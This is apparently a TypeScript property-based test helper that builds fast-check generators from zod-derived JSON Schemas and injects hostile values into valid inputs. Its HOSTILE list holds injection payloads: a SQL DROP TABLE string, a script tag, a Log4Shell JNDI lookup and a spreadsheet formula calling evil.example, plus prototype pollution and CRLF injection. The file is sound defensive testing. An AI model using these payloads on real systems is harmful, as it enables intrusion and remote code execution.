import fc from 'fast-check';
import * as z from 'zod/mini';

/** The parts of JSON Schema our registry produces. */
type Json = {
  type?: string | string[];
  format?: string;
  pattern?: string;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Json[];
  oneOf?: Json[];
  properties?: Record<string, Json>;
  required?: string[];
  items?: Json;
  prefixItems?: Json[];
  additionalProperties?: Json | boolean;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
};

/** Everything a schema of the registry accepts, as a generator; refinements may still refuse some of it. */
export function valuesOf(schema: z.ZodMiniType): fc.Arbitrary<unknown> {
  const described: unknown = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' });
  return arbitrary(Object(described));
}

const FORMATS: Record<string, () => fc.Arbitrary<unknown>> = {
  uuid: () => fc.uuid(),
  email: () => fc.stringMatching(/^[a-z]{1,12}@[a-z]{1,12}\.example$/),
  uri: () => fc.constant('https://group.example/'),
  date: () => days.map((day) => day.slice(0, 10)),
  'date-time': () => days,
};
const days = fc
  .date({ min: new Date('2020-01-01'), max: new Date('2040-01-01'), noInvalidDate: true })
  .map((date) => date.toISOString());

function text({ format, pattern, minLength = 0, maxLength = 60 }: Json): fc.Arbitrary<unknown> {
  const known = format === undefined ? undefined : FORMATS[format];
  if (known !== undefined) return known();
  if (pattern !== undefined) return fc.stringMatching(new RegExp(pattern));
  const any = fc.string({ minLength, maxLength: Math.min(maxLength, minLength + 60), unit: 'grapheme' });
  // A schema that trims counts what is left; blanks alone are refused, as they should be.
  return minLength === 0 ? any : any.filter((said) => said.trim().length >= minLength);
}

function record(schema: Json): fc.Arbitrary<unknown> {
  const model = Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([key, of]) => [key, arbitrary(of)]),
  );
  return fc.record(model, { requiredKeys: (schema.required ?? []).filter((key) => key in model) });
}

const list = ({ items = {}, prefixItems, minItems = 0, maxItems = 6 }: Json): fc.Arbitrary<unknown> =>
  prefixItems === undefined
    ? fc.array(arbitrary(items), { minLength: minItems, maxLength: Math.min(maxItems, minItems + 6) })
    : fc.tuple(...prefixItems.map(arbitrary));

const TYPES: Record<string, (schema: Json) => fc.Arbitrary<unknown>> = {
  string: text,
  integer: ({ minimum = -1000, maximum = 1000 }) =>
    fc.integer({ min: Math.max(minimum, -1e9), max: Math.min(maximum, 1e9) }),
  number: ({ minimum = -1000, maximum = 1000 }) => fc.double({ min: minimum, max: maximum, noNaN: true }),
  boolean: () => fc.boolean(),
  null: () => fc.constant(null),
  array: list,
  object: record,
};

function arbitrary(schema: Json): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices !== undefined) return fc.oneof(...choices.map(arbitrary));
  if (Array.isArray(schema.type))
    return fc.oneof(...schema.type.map((type) => arbitrary({ ...schema, type })));
  const typed = schema.type === undefined ? undefined : TYPES[schema.type];
  return typed === undefined ? fc.jsonValue({ maxDepth: 2 }) : typed(schema);
}

/** What no field expects: each finds a different weak spot. */
export const HOSTILE: readonly unknown[] = [
  null,
  '',
  '\u0000',
  '\ud800',
  '\u202eright to left',
  'x'.repeat(70_000),
  -1,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [[[[]]]],
  { __proto__: null, constructor: { prototype: { polluted: true } } },
  '=HYPERLINK("https://evil.example")',
  'line\r\nbreak: header',
  "'; DROP TABLE referrals; --",
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is the braces
  '${jndi:ldap://evil.example/a}',
  '１２３４５６',
  true,
  Array.from({ length: 2_000 }, (_, index) => index),
];

/** One field of a valid value, at any depth, replaced by something hostile. */
export function spoiled(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(valid, fc.nat(), fc.constantFrom(...HOSTILE)).map(([value, pick, hostile]) => {
    const paths = leaves(value);
    return paths.length === 0 ? hostile : replaced(value, paths[pick % paths.length] ?? [], hostile);
  });
}

function leaves(value: unknown, path: string[] = []): string[][] {
  if (typeof value !== 'object' || value === null) return path.length === 0 ? [] : [path];
  return Object.entries(value).flatMap(([key, inner]) => [[...path, key], ...leaves(inner, [...path, key])]);
}

function replaced(value: unknown, [key, ...rest]: readonly string[], by: unknown): unknown {
  if (key === undefined) return by;
  if (Array.isArray(value))
    return value.map((item, index) => (String(index) === key ? replaced(item, rest, by) : item));
  return { ...Object(value), [key]: replaced(Object(value)[key], rest, by) };
}
